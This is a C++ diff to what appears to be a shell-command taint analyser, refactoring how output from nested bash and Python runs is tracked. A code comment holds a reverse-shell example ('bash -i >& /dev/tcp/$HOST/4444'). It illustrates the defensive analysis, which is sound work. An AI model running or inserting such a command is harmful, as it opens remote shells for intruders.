@@ -1768,11 +1768,9 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     // Code with unknown parts runs as bash -c runs it (eval "bash -i >& /dev/tcp/$HOST/4444 0>&1").
     if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) {
       // What it prints is what this command prints (< <(eval "find \"\$ROOT\" -type f")).
-      ctx_.nested_printed_taint = 0;
-      ctx_.nested_printed_ev = -1;
-      nested_shell(code);
-      r.stdout_taint |= ctx_.nested_printed_taint;
-      if (r.stdout_ev < 0) r.stdout_ev = ctx_.nested_printed_ev;
+      auto [printed, printed_ev] = ctx_.printed_by([&] { nested_shell(code); });
+      r.stdout_taint |= printed;
+      if (r.stdout_ev < 0) r.stdout_ev = printed_ev;
     }
     return r;
   }
@@ -2005,7 +2003,9 @@ CommandResult Runner::interpreter(const std::vector<Word>& argv, const CommandIo
     if (python) {
       std::vector<Word> args;
       for (size_t k = 1; k < p.operands.size(); ++k) args.push_back(argv[p.operands[k]]);
-      run_written_script(f, true, ft, fev >= 0 ? fev : f.ev, std::move(args));
+      // What the script prints is this command's output (python3 collect.py > out.json).
+      std::tie(r.stdout_taint, r.stdout_ev) =
+          ctx_.printed_by([&] { run_written_script(f, true, ft, fev >= 0 ? fev : f.ev, std::move(args)); });
     }
     return r;
   }
@@ -2019,13 +2019,10 @@ CommandResult Runner::interpreter(const std::vector<Word>& argv, const CommandIo
     for (size_t k = !p.operands.empty() && argv[p.operands[0]].text == "-" ? 1 : p.operands.size();
          k < p.operands.size(); ++k)
       args.push_back(argv[p.operands[k]]);
-    ctx_.nested_printed_taint = 0;
-    ctx_.nested_printed_ev = -1;
-    nested_python(Word{io.stdin_text, io.stdin_taint, io.stdin_ev}, &args);
     // A program known whole, not a session: its output is what it prints.
+    std::tie(r.stdout_taint, r.stdout_ev) =
+        ctx_.printed_by([&] { nested_python(Word{io.stdin_text, io.stdin_taint, io.stdin_ev}, &args); });
     r.interactive_shell = false;
-    r.stdout_taint = ctx_.nested_printed_taint;
-    r.stdout_ev = ctx_.nested_printed_ev;
   }
   return r;
 }
